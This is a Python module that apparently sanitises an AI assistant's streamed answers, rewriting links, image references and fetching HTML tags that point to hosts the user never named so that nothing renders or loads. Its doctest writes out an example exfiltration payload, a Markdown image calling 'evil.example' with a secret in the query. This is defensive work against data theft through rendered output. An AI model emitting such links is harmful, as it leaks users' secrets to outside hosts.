"""Answers lead nowhere that nobody named: a link or an image could carry out what was read (attack 104).

Addresses of other hosts are spelt so that no reader of Markdown or HTML fetches or follows them; what they were can
still be read. Nothing is decided by how harmless a link looks.

>>> defuse("![map](https://evil.example/?d=secret)", frozenset())
'![map]\\\\(https[:]//evil[.]example/?d=secret)'
"""

import html
import re
from collections.abc import Mapping
from typing import Any

HELD_CHARS = 4_000  # of a line that a listener waits for at most
TARGET_CHARS = 2_000  # a longer one leads nowhere
_HOST = re.compile(r"[a-z0-9_-]{1,63}(?:\.[a-z0-9_-]{1,63}){1,20}", re.IGNORECASE)
_IN_PROMPT = re.compile(
    r"(?:\b[a-z][a-z0-9+.-]{0,30}://|www\.|(?<![\w@.]))((?:[a-z0-9_-]{1,63}\.){1,20}[a-z]{2,63}|localhost)\b",
    re.IGNORECASE,
)
# scheme://host, //host, www.host; slashes either way, as browsers read them.
_ADDRESS = re.compile(
    r"(?P<scheme>\b[a-z][a-z0-9+.-]{0,30}:[/\\]{2,}|(?<![\w:/\\\]])//(?=[\w-]{1,63}\.\w)|\b(?=www\.))"
    r"(?P<host>[^\s/\\?#<>\"'`()\[\]{}|]*)",
    re.IGNORECASE,
)
_TARGET = re.compile(rf"\]\((?=[ \t]{{0,20}}(?P<target><[^>\n]{{0,{TARGET_CHARS}}}>?|[^\s)]{{0,{TARGET_CHARS}}}))")
_DEFINITION = re.compile(rf"\]:(?=[ \t]{{0,20}}(?P<target><[^>\n]{{0,{TARGET_CHARS}}}>?|\S{{0,{TARGET_CHARS}}}))")
_TAG = re.compile(r"<(?=(?P<inside>[a-z!?/][^<>]*)(?P<end>>?))", re.IGNORECASE)
_FETCHING = frozenset({
    "a", "area", "audio", "base", "body", "embed", "form", "frame", "iframe", "image", "img", "input", "link", "meta",
    "object", "picture", "portal", "script", "source", "style", "svg", "table", "td", "track", "use", "video",
})  # fmt: skip
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_WHOLE = re.compile(r"\s*(?:[a-z][a-z0-9+.-]{0,30}:)?[/\\]{2}\S", re.IGNORECASE)
_RISKY = re.compile(r"[\[<:\\]|//|www\.|&", re.IGNORECASE)
_PERHAPS = re.compile(r"[\w!/+.-]$")  # the end of a piece that may go on as an address


def hosts_of(text: str) -> frozenset[str]:
    """The hosts that a person's own words name, in lower case."""
    return frozenset(found.lower() for found in _IN_PROMPT.findall(text))


def defuse(text: str, hosts: frozenset[str]) -> str:
    """The text with every address outside of ``hosts`` made plain text. Applied again, it changes nothing more."""
    return "".join(_line(line, hosts) for line in re.split(r"(?<=[\n\r])", text))


def foreign_address(value: Any, hosts: frozenset[str]) -> str | None:
    """A text in the JSON value that is, as a whole, an address outside of ``hosts``; None without one."""
    if isinstance(value, str):
        return value[:200] if _WHOLE.match(value) and not _is_known(value, hosts) else None
    parts = value.values() if isinstance(value, Mapping) else value if isinstance(value, list) else ()
    return next((found for part in parts if (found := foreign_address(part, hosts)) is not None), None)


class LinkGuard:
    """The same for a text that comes in pieces: what may become an address is held until its line tells."""

    def __init__(self, hosts: frozenset[str]) -> None:
        self._hosts, self._held = hosts, ""

    def feed(self, piece: str) -> str:
        self._held += piece
        ready = self._ready()
        out, self._held = self._held[:ready], self._held[ready:]
        if len(self._held) <= HELD_CHARS:
            return defuse(out, self._hosts)
        # One endless word: it is told with nothing in it that the next piece could make a link or a tag of.
        word, self._held = self._held, ""
        return defuse(out, self._hosts) + defuse(word, self._hosts).replace("<", "&lt;").replace("]", "\\]")

    def flush(self) -> str:
        """The rest, at the text's end."""
        out, self._held = self._held, ""
        return defuse(out, self._hosts)

    def _ready(self) -> int:
        """How much of what is held can be told: whole lines, and words in which nothing begins."""
        line = max(self._held.rfind("\n"), self._held.rfind("\r")) + 1
        rest = self._held[line:]
        is_long = len(rest) > HELD_CHARS
        risk = None if is_long else _RISKY.search(rest)
        told = rest if risk is None else rest[: risk.start()]
        blank = max(told.rfind(" "), told.rfind("\t")) + 1
        is_over = risk is None and not is_long and told and not _PERHAPS.search(told)
        return line + (len(told) if is_over else blank)


def _line(line: str, hosts: frozenset[str]) -> str:
    if not _RISKY.search(line):
        return line
    line = _TARGET.sub(lambda found: "](" if _may_lead(found["target"], hosts) else "]\\(", line)
    line = _DEFINITION.sub(lambda found: "]:" if _may_lead(found["target"], hosts) else "]\\:", line)
    line = _TAG.sub(lambda found: "&lt;" if _fetches(found["inside"], found["end"], hosts) else "<", line)
    return _ADDRESS.sub(lambda found: _spelt(found, hosts), line)


def _spelt(found: "re.Match[str]", hosts: frozenset[str]) -> str:
    scheme, host = found["scheme"], found["host"].rstrip(".")
    if _is_known(scheme + host, hosts):
        return found[0]
    return scheme.replace(":", "[:]") + host.replace(".", "[.]") + found["host"][len(host) :]


def _may_lead(target: str, hosts: frozenset[str]) -> bool:
    """Whether a link may lead there: to a known host, or to a place within the page's own."""
    place = target.strip("<>")
    return 0 < len(place) < TARGET_CHARS and _is_known(place, hosts)


def _is_known(address: str, hosts: frozenset[str]) -> bool:
    """Whether it leads to a known host, or to none, whoever reads it: as Markdown, where signs may be escaped, or as a
    browser, for which a backslash is a slash."""
    plain = html.unescape(html.unescape(address))
    return all(_leads_to_known(one, hosts) for one in {plain, _ESCAPE.sub(r"\1", plain)})


def _leads_to_known(address: str, hosts: frozenset[str]) -> bool:
    plain = re.sub(r"[\x00-\x20\x7f]", "", address).replace("\\", "/")
    scheme = _SCHEME.match(plain)
    if scheme is not None and scheme[1].lower() not in ("http", "https"):
        return False
    rest = plain[scheme.end() :] if scheme else plain
    if scheme is None and not rest.startswith("//") and not rest.lower().startswith("www."):
        return bool(rest) and not rest.startswith("%")
    host = re.split(r"[/?#]", rest.lstrip("/"), maxsplit=1)[0].lower().rstrip(".")
    host = re.sub(r":\d{1,5}$", "", host)
    if host != "localhost" and not _HOST.fullmatch(host):
        return False
    return host in hosts or any(host.endswith(known[1:]) for known in hosts if known.startswith("*."))


def _fetches(inside: str, end: str, hosts: frozenset[str]) -> bool:
    """Whether what stands after a ``<`` is a tag, or the beginning of one, that could load or lead."""
    if end and " " not in inside and _SCHEME.match(inside):  # <https://...>
        return not _is_known(inside, hosts)
    name = re.match(r"[!?/]?([a-z0-9]*)", inside, re.IGNORECASE)
    return "=" in inside if end else name is not None and name[1].lower() in _FETCHING
